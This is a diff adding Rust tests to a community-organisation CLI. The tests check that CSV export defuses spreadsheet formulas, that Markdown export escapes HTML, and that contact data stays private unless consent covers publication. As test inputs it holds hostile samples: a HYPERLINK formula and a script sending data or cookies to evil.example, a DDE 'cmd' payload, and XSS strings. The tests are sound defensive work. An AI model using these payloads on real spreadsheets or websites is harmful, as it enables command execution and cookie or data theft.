@@ -759,3 +759,257 @@ fn a_spreadsheet_is_checked_whole_then_imported_in_one_go() {
         .failure()
         .stderr(predicate::str::contains("unknown column \"titel\""));
 }
+
+/// A CSV file's rows as a spreadsheet reads them (quoted cells may hold
+/// commas, quotes and line breaks).
+fn csv_rows(text: &str) -> Vec<Vec<String>> {
+    let mut rows = vec![];
+    let mut row = vec![];
+    let mut cell = String::new();
+    let mut quoted = false;
+    let mut chars = text.chars().peekable();
+    while let Some(c) = chars.next() {
+        match (quoted, c) {
+            (true, '"') if chars.peek() == Some(&'"') => {
+                chars.next();
+                cell.push('"');
+            }
+            (true, '"') => quoted = false,
+            (true, c) => cell.push(c),
+            (false, '"') => quoted = true,
+            (false, ',') => row.push(std::mem::take(&mut cell)),
+            (false, '\n') => {
+                row.push(std::mem::take(&mut cell));
+                rows.push(std::mem::take(&mut row));
+            }
+            (false, c) => cell.push(c),
+        }
+    }
+    rows
+}
+
+/// Issue 13, item 8: a cell a spreadsheet would run as a formula is written
+/// with a leading apostrophe, and import-csv takes it off again, so a file
+/// goes out inert and comes back as it was.
+#[test]
+fn export_csv_neutralises_formulas_and_import_gives_them_back() {
+    let home = Home::initialised();
+    let hostile = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+        "+1",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "'=already quoted",
+    ];
+    for (i, summary) in hostile.iter().enumerate() {
+        home.stdout(&[
+            "publish",
+            "learning",
+            "--title",
+            &format!("Row {i}"),
+            &format!("--summary={summary}"),
+            "--tag",
+            "=cmd|' /C calc'!A0",
+            "--body",
+            "\t=2+5",
+        ]);
+    }
+    let csv = home.path().join("out.csv");
+    home.stdout(&["export-csv", "learning", "--out", csv.to_str().unwrap()]);
+    let rows = csv_rows(&std::fs::read_to_string(&csv).unwrap());
+    let column = |name: &str| rows[0].iter().position(|h| h == name).unwrap();
+    let (summary, tags, body) = (column("summary"), column("tags"), column("body"));
+    let mut summaries = Vec::new();
+    for row in &rows[1..] {
+        for cell in row {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a cell a spreadsheet would run: {cell:?}"
+            );
+        }
+        assert_eq!(&row[tags], "'=cmd|' /C calc'!A0");
+        assert_eq!(&row[body], "'\t=2+5");
+        summaries.push(row[summary].to_string());
+    }
+    summaries.sort();
+    let mut expected: Vec<String> = hostile.iter().map(|s| format!("'{s}")).collect();
+    expected.sort();
+    assert_eq!(summaries, expected);
+
+    // The exported file imports as it is (the node's own columns are
+    // ignored), and what comes back is what was published.
+    let other = Home::for_org("Carers Trust", "vcse");
+    let out = other.stdout(&["import-csv", "learning", csv.to_str().unwrap()]);
+    assert!(out.contains("Published 5 learning entries"), "{out}");
+    let mut back: Vec<String> = other
+        .json_lines(&["list", "learning", "--json"])
+        .iter()
+        .map(|row| {
+            let shown = other.json(&["show", row["id"].as_str().unwrap(), "--json"]);
+            assert_eq!(shown["tags"][0], "=cmd|' /C calc'!A0", "{shown}");
+            assert_eq!(shown["body"], "\t=2+5", "{shown}");
+            shown["summary"].as_str().unwrap().to_string()
+        })
+        .collect();
+    back.sort();
+    let mut published: Vec<String> = hostile.iter().map(|s| s.to_string()).collect();
+    published.sort();
+    assert_eq!(back, published);
+
+    // A row of another kind is refused, not silently turned into learning.
+    let text = std::fs::read_to_string(&csv).unwrap();
+    let wrong = other.write("projects.csv", &text.replacen(",learning,", ",project,", 1));
+    other
+        .convene(&["import-csv", "learning", wrong.to_str().unwrap()])
+        .assert()
+        .failure()
+        .stderr(predicate::str::contains(
+            "column kind: this row is a project",
+        ));
+}
+
+/// Issue 13, item 8: export-md writes what members typed as text, never as
+/// HTML a website would run.
+#[test]
+fn export_md_escapes_html_and_links() {
+    let home = Home::initialised();
+    home.stdout(&[
+        "publish",
+        "learning",
+        "--title",
+        "Waits <script>alert('title')</script>",
+        "--summary",
+        "<img src=x onerror=alert(1)> and [click](javascript:alert(2))",
+        "--body",
+        "Line one.\n\n<script>document.location='http://evil.example/'+document.cookie</script>\n\nA & B",
+    ]);
+    let site = home.path().join("site");
+    home.stdout(&["export-md", "--out", site.to_str().unwrap()]);
+    let page = std::fs::read_dir(&site)
+        .unwrap()
+        .map(|e| e.unwrap().path())
+        .find(|p| p.to_string_lossy().contains("learning-"))
+        .expect("a page for the entry");
+    let text = std::fs::read_to_string(page).unwrap();
+    assert!(!text.contains('<'), "raw HTML in the page: {text}");
+    assert!(text.contains("&lt;script&gt;document.location="), "{text}");
+    assert!(text.contains("\n# Waits &lt;script&gt;"), "{text}");
+    assert!(
+        text.contains("&lt;img src=x onerror=alert(1)&gt;"),
+        "{text}"
+    );
+    assert!(text.contains("\\[click\\](javascript:alert(2))"), "{text}");
+    assert!(text.contains("A &amp; B"), "{text}");
+    assert!(
+        text.contains("title: \"Waits &lt;script&gt;alert('title')&lt;/script&gt;\""),
+        "front matter: {text}"
+    );
+}
+
+/// Issue 13, item 8: contacts agreed to be seen by the community, not
+/// published on a website: export-md leaves them out unless asked, and
+/// then writes only those whose consent covers publication.
+#[test]
+fn export_md_leaves_contacts_out_unless_asked_and_their_consent_covers_it() {
+    let home = Home::initialised();
+    home.stdout(&[
+        "publish",
+        "contact",
+        "--name",
+        "Ben Community",
+        "--email",
+        "ben@example.org",
+        "--consent",
+    ]);
+    let org_only = home.write(
+        "cat.json",
+        r#"{"name": "Cat Organisation", "channels": [{"channel": "email", "value": "cat@example.org"}],
+            "consent": {"given_by": "Cat Organisation", "public": true}}"#,
+    );
+    home.stdout(&[
+        "publish",
+        "contact",
+        "--from",
+        org_only.to_str().unwrap(),
+        "--visibility",
+        "organisation",
+    ]);
+    let people = home.write(
+        "people.csv",
+        "name,email,phone,consent,consent_public\n\
+         Asha Public,asha@example.org,,yes,yes\n\
+         Dev Declined,dev@example.org,,yes,no\n",
+    );
+    home.stdout(&["import-csv", "contact", people.to_str().unwrap()]);
+    // Asha agreed to her email on the website, not to her phone.
+    let asha = home
+        .json_lines(&["list", "contact", "--json"])
+        .into_iter()
+        .find(|r| r["title"] == "Asha Public")
+        .unwrap();
+    let asha = asha["id"].as_str().unwrap();
+    home.stdout(&[
+        "edit",
+        asha,
+        "--set",
+        r#"channels=[{"channel": "email", "value": "asha@example.org"}, {"channel": "phone", "value": "0191 000 0000", "visibility": "organisation"}]"#,
+    ]);
+
+    let site = home.path().join("site");
+    let out = home.stdout(&["export-md", "--out", site.to_str().unwrap()]);
+    assert!(out.contains("--contacts"), "{out}");
+    let everything = |dir: &std::path::Path| -> String {
+        std::fs::read_dir(dir)
+            .unwrap()
+            .map(|e| std::fs::read_to_string(e.unwrap().path()).unwrap())
+            .collect::<Vec<_>>()
+            .join("\n")
+    };
+    let text = everything(&site);
+    for who in [
+        "Ben",
+        "Cat",
+        "Asha",
+        "Dev",
+        "example.org",
+        "consent",
+        "given_by",
+    ] {
+        assert!(
+            !text.contains(who),
+            "{who} published without --contacts: {text}"
+        );
+    }
+
+    let with = home.path().join("with-contacts");
+    home.stdout(&["export-md", "--out", with.to_str().unwrap(), "--contacts"]);
+    let text = everything(&with);
+    assert!(text.contains("# Asha Public"), "{text}");
+    assert!(text.contains("asha@example.org"), "{text}");
+    for kept_private in [
+        "0191 000 0000",
+        "Ben",
+        "ben@example.org",
+        "Cat",
+        "cat@example.org",
+        "Dev",
+        "dev@example.org",
+        "given_by",
+    ] {
+        assert!(
+            !text.contains(kept_private),
+            "{kept_private} published: {text}"
+        );
+    }
+
+    // Consent to publication is wider than the community, so it cannot go
+    // with consent to be seen by one organisation only.
+    let narrow = home.write(
+        "narrow.csv",
+        "name,consent,consent_public,visibility\nEd Narrow,yes,yes,organisation\n",
+    );
+    home.convene(&["import-csv", "contact", narrow.to_str().unwrap()])
+        .assert()
+        .failure()
+        .stderr(predicate::str::contains("column consent: cannot be yes"));
+}
